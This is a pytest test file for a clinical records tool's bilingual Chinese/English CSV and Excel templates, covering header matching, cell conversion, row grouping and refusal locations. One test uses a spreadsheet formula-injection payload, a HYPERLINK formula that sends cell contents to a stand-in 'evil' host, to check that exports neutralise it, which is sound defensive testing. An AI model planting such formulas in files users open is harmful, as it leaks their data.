"""The CSV/Excel templates: bilingual headers, cell conversions, grouping, located refusals."""

from __future__ import annotations

import csv
import datetime as dt
import types
from pathlib import Path
from typing import Any, Union, get_args, get_origin

import pytest
from pydantic import BaseModel

from bonepath.errors import RecordRefused
from bonepath.interop.files import find_inputs, read_input
from bonepath.interop.raw import RawRecord
from bonepath.interop.tabular import (
    SHEETS,
    UNKNOWN_PATIENT,
    cell_value,
    read_csv_set,
    read_workbook,
    sheet_for,
    template_rows,
    write_csv_set,
    write_workbook,
)
from bonepath.record import problems as codes
from bonepath.record.model import Record
from bonepath.record.parse import parse_record
from bonepath.record.problem_text import describe, explain

TODAY = dt.date(2026, 11, 23)

PATIENT_HEADER = ["患者编号 / id", "性别", "birth_date", "病理诊断日期 / diagnosis_date", "stage"]
PATIENT_ROW = ["P1", "male", "1958-03-02", "2026-01-05", "IV"]


def _csv(directory: Path, name: str, rows: list[list[Any]], encoding: str = "utf-8") -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}.csv"
    with path.open("w", encoding=encoding, newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


def _read_dir(directory: Path) -> list[RawRecord]:
    (source,) = find_inputs([directory])
    return list(read_input(source))


def _leaf_paths(model: type[BaseModel], prefix: tuple[str, ...] = ()) -> set[tuple[str, ...]]:
    """Every scalar field path of ``model`` (lists of objects and events left out)."""
    paths: set[tuple[str, ...]] = set()
    for name, info in model.model_fields.items():
        annotation = info.annotation
        if get_origin(annotation) in (Union, types.UnionType):
            annotation = next(a for a in get_args(annotation) if a is not type(None))
        path = (*prefix, info.alias or name)
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            paths |= _leaf_paths(annotation, path)
        elif get_origin(annotation) is tuple and issubclass(get_args(annotation)[0], BaseModel):
            continue  # lesions and the event lists have sheets of their own
        elif get_origin(annotation) is dict:  # drivers: one column per gene
            paths |= {(*path, gene.value) for gene in get_args(annotation)[0]}
        else:
            paths.add(path)
    return paths


def test_patients_sheet_covers_every_top_level_field_once() -> None:
    covered = [column.path for column in SHEETS["patients"].columns]
    assert len(covered) == len(set(covered))
    expected = _leaf_paths(Record) - {("events",), ("format",)}
    assert set(covered) == expected


def test_every_list_of_the_record_has_a_sheet_with_every_field() -> None:
    from bonepath.record.model import EVENT_LISTS, Lesion

    assert set(SHEETS) == {"patients", "lesions", *EVENT_LISTS}
    lesion_fields = [c.name for c in SHEETS["lesions"].columns[2:]]
    assert lesion_fields == list(Lesion.model_fields)
    assert [c.name for c in SHEETS["medications"].columns] == [
        "source",
        "id",
        "date",
        "class",
        "action",
    ]
    for sheet in SHEETS.values():
        assert len(sheet.title) <= 31 and "/" not in sheet.title
        assert all(column.zh and column.zh != column.name for column in sheet.columns)


@pytest.mark.parametrize(
    "header",
    ["检验项目 / test", "检验项目", "test", "TEST", " 检验项目/test ", "检验项目 / TEST"],
)
def test_a_header_is_read_in_either_language(header: str) -> None:
    column = SHEETS["labs"].column_for(header)
    assert column is not None and column.path == ("test",)


def test_full_width_brackets_of_chinese_input_methods_match() -> None:
    column = SHEETS["vitals"].column_for("体重（kg）")
    assert column is not None and column.name == "weight_kg"
    assert SHEETS["labs"].column_for("备注") is None


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("labs", "labs"),
        ("检验", "labs"),
        ("labs 检验", "labs"),
        ("bta_stop 骨改良药物停药", "bta_stop"),
    ],
)
def test_sheet_titles_in_either_language(title: str, name: str) -> None:
    sheet = sheet_for(title)
    assert sheet is not None and sheet.name == name


@pytest.mark.parametrize(
    ("kind", "cell", "value"),
    [
        ("date", dt.datetime(2026, 3, 5, 0, 0), "2026-03-05"),
        ("date", "2026/3/5", "2026-03-05"),
        ("date", "05/03/2026", "05/03/2026"),  # day-first or month-first: not guessed
        ("boolean", "是", True),
        ("boolean", "否", False),
        ("boolean", "maybe", "maybe"),
        ("number", "1.5", 1.5),
        ("number", "1,5", "1,5"),
        ("number", "NaN", "NaN"),
        ("integer", 2.0, 2),
        ("integer", "3", 3),
        ("integer", 2.5, 2.5),
        ("text", 1001.0, "1001"),
        ("codes", "rib, pelvis、femur", ["rib", "pelvis", "femur"]),
        ("codes", "无", []),
        ("code", " male ", "male"),
    ],
)
def test_cells_are_converted_only_when_unambiguous(kind: Any, cell: Any, value: Any) -> None:
    assert cell_value(kind, cell) == value


def test_rows_are_grouped_into_records_in_row_order(tmp_path: Path) -> None:
    _csv(
        tmp_path,
        "patients",
        [PATIENT_HEADER, PATIENT_ROW, ["P2", "female", "1960-01-01", "2026-02-01", "IV"]],
    )
    _csv(
        tmp_path,
        "检验",  # a Chinese file name works too
        [
            ["患者编号", "检验日期", "检验项目", "结果值", "单位"],
            ["P2", "2026-03-01", "calcium", "2.3", "mmol/L"],
            ["P1", "2026-03-02", "creatinine", "80", "umol/L"],
            ["P2", "2026/3/9", "calcium", "2.4", "mmol/L"],
            ["P1", "", "", "", ""],  # only the key: a prepared, empty row
        ],
    )

    raws = _read_dir(tmp_path)

    records = [parse_record(raw.data, today=TODAY) for raw in raws]
    assert [r.id for r in records] == ["P1", "P2"]
    assert [(lab.test.value, lab.value) for lab in records[1].events.labs] == [
        ("calcium", 2.3),
        ("calcium", 2.4),
    ]
    assert records[1].events.labs[1].date == dt.date(2026, 3, 9)
    assert records[0].source == "manual"
    assert raws[1].location == f"{tmp_path / 'patients.csv'}:3"


def test_a_refused_cell_is_located_by_row_and_column(tmp_path: Path) -> None:
    _csv(tmp_path, "patients", [PATIENT_HEADER, PATIENT_ROW])
    _csv(
        tmp_path,
        "labs",
        [
            [
                "患者编号 / id",
                "检验日期 / date",
                "检验项目 / test",
                "结果值 / value",
                "单位 / unit",
            ],
            ["P1", "2026-03-01", "calcium", "2.3", "mmol/L"],
            ["P1", "2026-03-02", "creatinine", "1.1", "mmol/L"],
        ],
    )
    (raw,) = _read_dir(tmp_path)

    with pytest.raises(RecordRefused) as refused:
        parse_record(raw.data, today=TODAY)
    (problem,) = refused.value.problems

    assert (problem.path, problem.code) == ("/events/labs/1/unit", codes.UNKNOWN_UNIT)
    origin = raw.origin_of(problem.path)
    assert origin is not None
    assert origin.location == f"{tmp_path / 'labs.csv'}:3"
    assert origin.column == "单位 / unit"


def test_unknown_column_with_values_is_refused_empty_one_ignored(tmp_path: Path) -> None:
    _csv(tmp_path, "patients", [[*PATIENT_HEADER, "备注", "空列"], [*PATIENT_ROW, "复查", ""]])
    (raw,) = _read_dir(tmp_path)
    with pytest.raises(RecordRefused) as refused:
        parse_record(raw.data, today=TODAY)
    (problem,) = refused.value.problems
    assert (problem.path, problem.code) == ("/备注", codes.UNKNOWN_FIELD)
    origin = raw.origin_of(problem.path)
    assert origin is not None and origin.column == "备注"


def test_event_rows_without_a_patient_row_are_refused(tmp_path: Path) -> None:
    _csv(tmp_path, "patients", [PATIENT_HEADER, PATIENT_ROW])
    _csv(
        tmp_path,
        "bta",
        [["id", "date", "drug", "dose_mg"], ["P9", "2026-03-01", "denosumab", "120"]],
    )

    raws = _read_dir(tmp_path)

    assert [raw.key for raw in raws] == [("manual", "P1"), ("manual", "P9")]
    (problem,) = raws[1].problems
    # issue 14: the id was filled, so not "/id 缺少必填项" but an unknown patient, in words
    assert (problem.path, problem.code) == ("/id", UNKNOWN_PATIENT)
    assert "'P9'" in problem.problem and "no row in the patients sheet" in problem.problem
    assert describe(problem, "zh") == "该行的患者在患者表中没有对应行"
    assert explain(problem, "zh") == (
        "该行的患者在患者表中没有对应行；请在患者表中补充该患者，或更正这些行的患者编号/来源系统"
    )
    assert raws[1].location == f"{tmp_path / 'bta.csv'}:2"


def test_event_rows_without_an_id_are_missing_the_id(tmp_path: Path) -> None:
    _csv(tmp_path, "patients", [PATIENT_HEADER, PATIENT_ROW])
    _csv(tmp_path, "bta", [["id", "date", "drug"], ["", "2026-03-01", "denosumab"]])

    (_, orphan) = _read_dir(tmp_path)

    (problem,) = orphan.problems
    assert (problem.path, problem.code) == ("/id", codes.MISSING_FIELD)


def test_a_patient_on_two_rows_is_refused(tmp_path: Path) -> None:
    _csv(tmp_path, "patients", [PATIENT_HEADER, PATIENT_ROW, PATIENT_ROW])
    (raw,) = _read_dir(tmp_path)
    (problem,) = raw.problems
    assert problem.code == codes.CONTRADICTION
    assert f"{tmp_path / 'patients.csv'}:3" in problem.problem


def test_template_without_patients_sheet_or_id_column(tmp_path: Path) -> None:
    _csv(tmp_path / "a", "labs", [["id", "date"], ["P1", "2026-01-01"]])
    (raw,) = _read_dir(tmp_path / "a")
    assert (
        raw.problems[0].code == codes.MISSING_FIELD and "patients sheet" in raw.problems[0].problem
    )

    _csv(tmp_path / "b", "patients", [["性别", "birth_date"], ["male", "1958-03-02"]])
    (raw,) = _read_dir(tmp_path / "b")
    assert raw.location == f"{tmp_path / 'b' / 'patients.csv'}:1"
    assert raw.problems[0].accepted == ("患者编号 / id",)


def test_unknown_csv_with_content_is_refused_readme_ignored(tmp_path: Path) -> None:
    _csv(tmp_path, "patients", [PATIENT_HEADER, PATIENT_ROW])
    _csv(tmp_path, "readme", [["anything"], ["at all"]])
    assert [raw.key for raw in _read_dir(tmp_path)] == [("manual", "P1")]
    _csv(tmp_path, "notes", [["x"], ["y"]])
    (raw,) = _read_dir(tmp_path)
    assert raw.problems[0].code == codes.UNKNOWN_FIELD
    assert "labs 检验" in (raw.problems[0].accepted or ())


def test_csv_saved_by_chinese_excel_in_gb18030(tmp_path: Path) -> None:
    _csv(tmp_path, "patients", [PATIENT_HEADER, PATIENT_ROW], encoding="gb18030")
    _csv(
        tmp_path,
        "mdt",
        [
            ["患者编号", "讨论日期", "讨论决定", "参会科室"],
            ["P1", "2026-02-01", "开始地舒单抗", "oncology, orthopedics"],
        ],
        encoding="gb18030",
    )
    (raw,) = _read_dir(tmp_path)
    record = parse_record(raw.data, today=TODAY)
    assert record.events.mdt[0].decision == "开始地舒单抗"
    assert [a.value for a in record.events.mdt[0].attendees] == ["oncology", "orthopedics"]


def test_workbook_and_csv_round_trip_the_records(tmp_path: Path, make_cohort: Any) -> None:
    records = [parse_record(data, today=TODAY) for data in make_cohort(12, seed=3)]
    documents = [record.to_json_dict() for record in records]
    write_workbook(tmp_path / "cohort.xlsx", documents)
    write_csv_set(tmp_path / "csv", documents)

    from_workbook = list(read_workbook(tmp_path / "cohort.xlsx"))
    members = sorted((tmp_path / "csv").glob("*.csv"))
    from_csv = list(read_csv_set(tmp_path / "csv", members))

    assert [parse_record(raw.data, today=TODAY) for raw in from_workbook] == records
    assert [parse_record(raw.data, today=TODAY) for raw in from_csv] == records
    assert from_workbook[0].location == f"{tmp_path / 'cohort.xlsx'}[patients 患者]:2"


def test_filled_templates_hold_formula_like_ids_as_text_and_read_them_back(
    tmp_path: Path, make_cohort: Any
) -> None:
    """Issue 13 item 3: no formula cell in the workbook, a quoted cell in the CSV, and both
    read back as the id that was written."""
    from openpyxl import load_workbook

    data = make_cohort(1, seed=3)[0]
    data["id"] = '=HYPERLINK("http://evil/?"&A1,"x")'
    data["source"] = "-2+3"
    record = parse_record(data, today=TODAY)
    write_workbook(tmp_path / "cohort.xlsx", [record.to_json_dict()])
    write_csv_set(tmp_path / "csv", [record.to_json_dict()])

    book = load_workbook(tmp_path / "cohort.xlsx")
    formulas = [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    with (tmp_path / "csv" / "patients.csv").open(encoding="utf-8-sig", newline="") as stream:
        row = list(csv.reader(stream))[1]
    assert "'" + data["id"] in row and "'-2+3" in row
    members = sorted((tmp_path / "csv").glob("*.csv"))
    for raw in [*read_workbook(tmp_path / "cohort.xlsx"), *read_csv_set(tmp_path / "csv", members)]:
        assert parse_record(raw.data, today=TODAY) == record


def test_template_rows_flatten_a_record(make_cohort: Any) -> None:
    records = [parse_record(data, today=TODAY) for data in make_cohort(20)]
    data = next(r for r in records if r.events.bta and r.cancer.drivers).to_json_dict()
    rows = template_rows(data)
    header = [c.name for c in SHEETS["patients"].columns]
    (patient_row,) = rows["patients"]
    patient = dict(zip(header, patient_row, strict=True))
    assert patient["id"] == data["id"]
    assert patient["diagnosis_date"] == data["cancer"]["diagnosis_date"]
    for gene, status in data["cancer"]["drivers"].items():
        assert patient[f"driver_{gene}"] == status
    assert len(rows["bta"]) == len(data["events"]["bta"])
    assert rows["bta"][0][:3] == ["synth", data["id"], data["events"]["bta"][0]["date"]]


def test_empty_template_workbook_has_bilingual_headers_and_reads_as_nothing(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_workbook(tmp_path / "template.xlsx")
    workbook = load_workbook(path, read_only=True)
    try:
        assert workbook.sheetnames[0] == "readme 说明"
        labs = workbook["labs 检验"]
        header = next(labs.iter_rows(values_only=True))
    finally:
        workbook.close()
    assert header[:4] == (
        "来源系统 / source",
        "患者编号 / id",
        "检验日期 / date",
        "检验项目 / test",
    )
    assert list(read_workbook(path)) == []


def test_docs_hold_the_current_column_mapping() -> None:
    from bonepath.interop.tabular import mapping_markdown

    docs = (Path(__file__).resolve().parents[2] / "docs" / "import.md").read_text(encoding="utf-8")
    start = docs.index("<!-- template-mapping:start -->\n") + len(
        "<!-- template-mapping:start -->\n"
    )
    end = docs.index("<!-- template-mapping:end -->")
    assert docs[start:end] == mapping_markdown()
